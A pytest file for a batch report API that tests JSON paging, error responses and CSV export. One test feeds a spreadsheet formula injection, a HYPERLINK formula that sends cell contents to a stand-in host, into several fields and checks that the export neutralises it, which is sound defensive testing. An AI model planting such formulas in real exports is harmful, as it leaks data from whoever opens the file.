"""GET /api/batches/<id>/report: JSON in pages, CSV for spreadsheets."""

import csv
import io
from typing import Any

import pytest

from app.services import Services
from app.services.run_report import cells, run_report
from app.web.csv import COLUMNS, csv_lines
from tests.api.lives import (
    MODEL,
    PROMPT,
    act,
    answered,
    bring,
    complete,
    create_ready,
    fail,
    finish_all,
    lease,
    refused,
)
from tests.support.client import ApiClient
from tests.support.spending import spend

SCHEMA = {"properties": {"score": {"type": "number"}}}
TWO_MODELS = [MODEL, {**MODEL, "model": "other"}]


def report_of(client: ApiClient, batch_id: int, query: str = "") -> dict[str, Any]:
    return answered(client.get(f"/api/batches/{batch_id}/report{query}"))


def csv_of(client: ApiClient, batch_id: int, query: str = "") -> list[dict[str, str]]:
    """Read the CSV with another reader's eyes; every line ends as RFC 4180 says."""
    answer = client.get(f"/api/batches/{batch_id}/report?format=csv{query}")
    assert answer.status_code == 200
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="batch-{batch_id}.csv"'
    text = answer.get_data().decode("utf-8-sig")
    assert text.endswith("\r\n")
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert tuple(head) == COLUMNS
    assert all(len(row) == len(head) for row in rows)
    return [dict(zip(head, row, strict=True)) for row in rows]


def test_the_first_page_has_the_sums(same_client: ApiClient) -> None:
    batch = bring(same_client, "COMPLETED", documents=3, models=TWO_MODELS)
    report = report_of(same_client, batch["id"], "?limit=2")
    assert list(report) == [
        "batch_id", "run", "models", "prompts", "agreement", "agreement_left_out", "documents", "next_cursor",
    ]  # fmt: skip
    assert [(row["model"], row["tasks"], row["completed"]) for row in report["models"]] == [
        ("textstats", 3, 3),
        ("other", 3, 3),
    ]
    assert [(row["compared"], row["agreed"], row["rate"]) for row in report["agreement"]] == [(3, 3, 1.0)]
    assert [row["document"]["name"] for row in report["documents"]] == ["0.txt", "1.txt"]
    further = report_of(same_client, batch["id"], f"?limit=2&cursor={report['next_cursor']}")
    assert list(further) == ["batch_id", "run", "documents", "next_cursor"]
    assert [row["document"]["name"] for row in further["documents"]] == ["2.txt"]
    assert further["next_cursor"] is None
    (cell, _) = further["documents"][0]["answers"]
    assert (cell["prompt"], cell["status"], cell["answer"]) == (PROMPT["name"], "COMPLETED", "read")
    assert isinstance(cell["task_id"], str)


def test_by_run(same_client: ApiClient) -> None:
    batch = bring(same_client, "COMPLETED", documents=1)
    act(same_client, batch["id"], "restage")
    assert report_of(same_client, batch["id"])["run"] == 2
    assert report_of(same_client, batch["id"])["documents"] == []
    assert report_of(same_client, batch["id"], "?run=1")["documents"][0]["document"]["name"] == "0.txt"
    assert csv_of(same_client, batch["id"]) == []
    assert len(csv_of(same_client, batch["id"], "&run=1")) == 1


@pytest.mark.parametrize("query", ["?format=xml", "?format=", "?run=x", "?run=-1", "?x=1", "?limit=0", "?cursor=x"])
def test_422_a_query_that_is_none(same_client: ApiClient, query: str) -> None:
    refused(same_client.get(f"/api/batches/{bring(same_client, 'SAVED')['id']}/report{query}"), 422)


def test_404_no_such_batch_in_either_format(same_client: ApiClient) -> None:
    for path in ("report", "report?format=csv", "report?cursor=1"):
        refused(same_client.get(f"/api/batches/999999/{path}"), 404)


def test_503_while_others_are_put_together(client: ApiClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reports of large runs cannot take every thread; a further page reads a page alone, and never waits."""
    batch = bring(client, "COMPLETED", documents=1)
    monkeypatch.setattr(run_report, "WALK_WAIT_SECONDS", 0.01)
    for _ in range(2):
        assert run_report._walks.acquire(blocking=False)
    try:
        answer = client.get(f"/api/batches/{batch['id']}/report")
        assert refused(answer, 503)["code"] == "busy"
        assert answer.headers["Retry-After"]
        assert report_of(client, batch["id"], "?cursor=0")["documents"]
    finally:
        for _ in range(2):
            run_report._walks.release()
    assert report_of(client, batch["id"])["models"]
    assert report_of(client, batch["id"])["models"]  # what was taken is given back


def test_csv_has_a_line_for_each_task(client: ApiClient, service: Services) -> None:
    batch = bring(client, "ANALYZING", documents=3, prompts=[{**PROMPT, "schema": SCHEMA}])
    first, second, _ = lease(client, batch["id"])
    complete(client, first, {"json": {"score": -1.5, "why": 'a "b",\nc'}, "text": "{}"})
    fail(client, second, retryable=False)
    used = {"input_tokens": 10, "output_tokens": 2, "cost_nanos": 1_250_000_000, "latency_ms": 7, "reused_from": 3}
    spend(service.engine, first["id"], **used)
    good, bad, waiting = csv_of(client, batch["id"])
    assert good == {
        "task_id": first["id"],
        "custom_id": "",
        "document": "0.txt",
        "part": "",
        "parts": "",
        "prompt": PROMPT["name"],
        "connection": "local",
        "model": "textstats",
        "status": "COMPLETED",
        "answer": '{"score":-1.5,"why":"a \\"b\\",\\nc"}',
        "truncated": "false",
        "score": "-1.5",  # a number is a number: no apostrophe
        "attempt": "1",
        "input_tokens": "10",
        "output_tokens": "2",
        "cost": "1.25",
        "latency_ms": "7",
        "error": "",
        "reused_from": "3",
        "unpriced_calls": "1",
    }
    assert (bad["status"], bad["answer"], bad["error"]) == ("FAILED", "", "timeout: no answer")
    assert (waiting["status"], waiting["cost"], waiting["latency_ms"]) == ("LEASED", "0.0", "")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_csv_holds_no_formulas(client: ApiClient, begin: str) -> None:
    """A spreadsheet would compute what a document, an operator, a model or a worker wrote."""
    evil = f'{begin}HYPERLINK("http://x.example/?"&A1;"ü,1")'
    body = {
        "name": "b",
        "documents": [{"name": evil, "text": "x"}],
        "prompts": [{"name": evil, "text": "p"}],
        "models": [{"connection": evil, "model": evil}],
    }
    batch = answered(client.post("/api/batches", json=body), 201)
    act(client, batch["id"], "stage")
    finish_all(client, batch["id"])
    act(client, batch["id"], "run")
    (task,) = lease(client, batch["id"])
    complete(client, task, {"text": evil})
    (line,) = csv_of(client, batch["id"])
    for name in ("document", "prompt", "connection", "model", "answer"):
        assert line[name] == f"'{evil}"


def test_csv_of_ready_made_tasks(client: ApiClient) -> None:
    batch = create_ready(client, tasks=450)
    for action in ("stage", "run"):
        act(client, batch["id"], action)
    finish_all(client, batch["id"])
    lines = csv_of(client, batch["id"])
    assert [line["custom_id"] for line in lines] == [str(number) for number in range(450)]
    assert {(line["document"], line["connection"], line["model"]) for line in lines} == {("", "jsonl", "m")}


def test_csv_is_streamed(client: ApiClient, service: Services, monkeypatch: pytest.MonkeyPatch) -> None:
    """A page of tasks in memory: the first lines are out before the last page is read."""
    monkeypatch.setattr(cells, "CELLS_PAGE", 2)
    batch = create_ready(client, tasks=6)
    for action in ("stage", "run"):
        act(client, batch["id"], action)
    read = 0

    def counted() -> Any:
        nonlocal read
        for row in service.run_report.lines(batch["id"]):
            read += 1
            yield row

    lines = csv_lines(counted(), str)
    assert next(lines).startswith(b"\xef\xbb\xbftask_id,custom_id,")
    assert read == 1
    assert len(b"".join(lines).splitlines()) == 5
    assert read == 6
